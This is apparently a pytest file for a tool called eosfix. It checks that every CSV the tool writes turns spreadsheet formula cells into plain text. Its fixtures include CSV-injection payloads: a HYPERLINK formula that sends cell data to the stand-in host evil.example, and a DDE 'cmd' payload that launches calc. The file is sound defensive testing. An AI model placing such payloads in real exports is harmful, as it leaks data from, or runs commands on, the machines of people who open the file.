"""Every CSV eosfix writes is data to a spreadsheet, never a formula: a repo whose turn ends
with a token spelled as a formula gets it as text in ``eosfix hub --format csv``,
``eosfix cache --format csv`` and the page's audit CSV (``eosfix.render.csvrows``)."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest

import eosfix
from tests.support.cachebuilder import CacheBuilder

FORMULA = '=HYPERLINK("http://evil.example/?d="&A3&C3,"Fix here")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_repo() -> dict[str, bytes]:
    """ChatML turns whose closing token is ``FORMULA`` (id 2); generation_config.json lists
    only 1, so the repo would be fixed and every column has something to say."""
    template = (
        "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}"
        "{{ '" + FORMULA + "' }}\n{% endfor %}"
        "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"
    )
    tok = {
        "eos_token": "<|endoftext|>",
        "added_tokens_decoder": {
            str(i): {"content": text, "special": True}
            for i, text in enumerate(("<|endoftext|>", "<|im_start|>", FORMULA), start=0)
        },
    }
    return {
        "chat_template.jinja": template.encode(),
        "tokenizer_config.json": json.dumps(tok).encode(),
        "generation_config.json": b'{\n  "eos_token_id": 1\n}\n',
        "config.json": b'{"eos_token_id": 1}\n',
    }


def _rows(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    return rows


def _assert_inert(rows: list[dict[str, str]], repo_id: str) -> None:
    """The formula repo's turn end is text, and no cell of any row starts a formula."""
    (row,) = [r for r in rows if r["repo_id"] == repo_id]
    assert row["ends_a_turn"] == f"'{FORMULA} 2"
    for r in rows:
        for column, cell in r.items():
            assert not cell.startswith(STARTS), (column, cell)


# Cells a spreadsheet would run (a lone minus and a minus before a digit it does not read
# are not numbers either), and cells it reads as text or as a number.
RUN = (FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "-\u0661")
KEPT = ("-1", "+2.5", "128009", "<|im_end|> 7; <|endoftext|> 2", "a =1", "")


@pytest.mark.parametrize("cell", RUN)
def test_a_cell_that_starts_a_formula_is_made_text(cell):
    from eosfix.render.csvrows import inert_cell

    assert inert_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", KEPT)
def test_a_number_or_other_text_is_kept_as_it_is(cell):
    from eosfix.render.csvrows import inert_cell

    assert inert_cell(cell) == cell


def test_every_csv_is_written_through_the_one_writer():
    """No module but ``eosfix.render.csvrows`` makes a csv writer: every CSV surface (hub,
    cache, the page's audit) gets its cells made inert in one place."""
    package = Path(eosfix.__file__).parent
    makers = []
    for path in sorted(package.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                makers.append(path.relative_to(package).as_posix())
    assert makers == ["render/csvrows.py"]


def test_hub_csv_shows_a_formula_token_as_text(fake_hub, run_eosfix):
    fake_hub.add_repo("org/formula", formula_repo())
    result = run_eosfix("hub", "--author", "org", "--format", "csv")
    _assert_inert(_rows(result.stdout), "org/formula")


def test_cache_csv_shows_a_formula_token_and_ref_as_text(tmp_path, run_eosfix):
    b = CacheBuilder(tmp_path / "hub")
    b.add_revision("org/formula", formula_repo(), refs=["=1+2"])
    rows = _rows(run_eosfix("cache", "--cache-dir", b.root, "--format", "csv").stdout)
    _assert_inert(rows, "org/formula")
    assert rows[0]["revision"] == "'=1+2"


def test_the_pages_audit_csv_shows_a_formula_token_as_text(fake_hub, tmp_path):
    pytest.importorskip("fastapi")
    pytest.importorskip("multipart")
    import time

    from eosfix.serve.config import ServeConfig
    from tests.support.service import Page

    fake_hub.add_repo("org/formula", formula_repo())
    config = ServeConfig(secret="s", state_dir=tmp_path / "state", page_rate=1000)
    with Page(config) as page:
        client = page.client(follow=False)
        location = client.get("/audit?author=org").headers["Location"]
        deadline = time.monotonic() + 120
        while not json.loads(client.get(location + "/progress").body)["finished"]:
            assert time.monotonic() < deadline
            time.sleep(0.05)
        reply = client.get(location + "/csv")
    assert reply.status == 200
    _assert_inert(_rows(reply.text), "org/formula")
